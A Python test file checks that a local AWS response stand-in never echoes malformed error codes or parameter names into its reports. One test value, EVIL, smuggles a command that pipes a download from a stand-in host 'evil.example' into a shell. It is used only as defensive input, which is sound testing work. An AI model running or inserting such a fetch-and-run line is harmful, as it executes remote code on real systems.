"""Answers in AWS's place: nothing is repeated that does not have the form of AWS's own words."""

import json

import pytest

from infra.local.aws import Answer
from tests.support.world import SPOKE_ROLE, World

EVIL = "no such thing; curl https://evil.example | sh"


@pytest.mark.parametrize(
    ("service", "action"),
    [
        ("ssm", "GetParametersByPath"),
        ("eks", "DescribeCluster"),
        ("ecr-public", "GetAuthorizationToken"),
        ("sts", "AssumeRole"),
    ],
)
@pytest.mark.parametrize("code", [EVIL, "k8s aws", "a" * 81, "<b>"])
def test_an_invalid_code_is_not_repeated(
    world: World, capsys: pytest.CaptureFixture[str], service: str, action: str, code: str
) -> None:
    world.add_cluster("prod", namespaces=("a",), embedded=True)
    world.document(
        "prod", f"{{namespaces: [a], roleArn: '{SPOKE_ROLE}', externalId: an-external-id}}"
    )
    world.aws.script(service, action, lambda request: Answer.refusal(request, code, "m"))
    report = world.invoke()
    said = json.dumps(report) + capsys.readouterr().out
    assert code not in said
    assert "unknown error" in said


@pytest.mark.parametrize("name", [EVIL, "/ecr-public-pusher/a\nb", "/ecr-public-pusher/ｄ"])
def test_a_parameter_that_can_have_no_such_name_is_no_answer_of_parameter_store(
    world: World, name: str
) -> None:
    body = json.dumps({"Parameters": [{"Name": name, "Type": "String", "Value": "x"}]})
    world.aws.script(
        "ssm",
        "GetParametersByPath",
        Answer(200, body.encode(), {"Content-Type": "application/x-amz-json-1.1"}),
    )
    report = world.invoke()
    assert report["error"]["type"] == "ConfigurationError"
    assert name not in json.dumps(report)
